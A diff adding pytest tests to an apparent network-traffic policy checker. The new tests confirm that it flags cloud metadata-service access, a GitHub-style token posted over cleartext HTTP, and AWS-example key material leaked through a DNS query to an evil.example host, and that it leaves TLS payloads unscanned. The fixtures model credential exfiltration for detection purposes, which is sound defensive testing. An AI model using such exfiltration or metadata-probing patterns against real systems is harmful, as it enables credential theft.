@@ -178,3 +178,29 @@ def test_ipv6_flows_are_named_and_judged(policy: Policy) -> None:
 
 def test_default_limits(policy: Policy) -> None:
     assert (policy.limits.upload_unlisted, policy.limits.upload_allowed) == (64 * KiB, 5 * MiB)
+
+
+def test_metadata_service_by_address_and_by_name(policy: Policy) -> None:
+    by_address = judge(connection("169.254.169.254", 80, b"GET / HTTP/1.1\r\n\r\n"), policy)
+    assert ("metadata-access", "169.254.169.254") in kinds(by_address)
+    by_name = judge([dns_query("metadata.google.internal")], policy)
+    assert ("metadata-access", "metadata.google.internal") in kinds(by_name)
+
+
+def test_credentials_in_cleartext_http_and_dns(policy: Policy) -> None:
+    post = b"POST /x HTTP/1.1\r\nHost: 198.18.3.30\r\n\r\ntoken=ghp_" + b"a" * 36
+    found = judge(connection("198.18.3.30", 80, post), policy).findings
+    secret = next(f for f in found if f.kind == "secret-in-cleartext")
+    assert dict(secret.evidence)["pattern"] == "github-token"
+    assert b"ghp_" not in secret.message.encode()
+    in_dns = judge([dns_query("akiaiosfodnn7example.AKIAIOSFODNN7EXAMPLE.evil.example")], policy)
+    assert "secret-in-cleartext" in {k for k, _ in kinds(in_dns)}
+
+
+def test_encrypted_payloads_are_not_scanned(policy: Policy) -> None:
+    hello = client_hello("files.pythonhosted.org")
+    packets = [
+        *resolved("files.pythonhosted.org", INDEX),
+        *connection(INDEX, 443, hello + b"AKIAIOSFODNN7EXAMPLE"),
+    ]
+    assert judge(packets, policy).findings == []
